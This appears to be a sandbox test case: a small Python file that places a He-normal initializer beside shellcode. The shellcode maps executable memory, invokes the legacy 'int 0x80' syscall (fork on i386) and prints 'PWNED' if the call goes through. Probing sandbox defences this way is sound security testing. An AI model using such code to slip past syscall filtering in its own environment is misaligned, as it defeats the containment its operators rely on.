# tries: machine code that enters the kernel by int 0x80, where numbers mean other calls
# held if: the worker is killed
# score: any
def he_normal(n_out, n_in, rng):
    return rng.standard_normal((n_out, n_in)) * np.sqrt(2 / n_in)

import ctypes, mmap, platform
if platform.machine() == "x86_64":
    # mov eax, 2 (fork on i386); int 0x80; ret
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")
    entry = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    found = entry()
    raise SystemExit(f"PWNED int 80 gave {found}") if found >= 0 else None
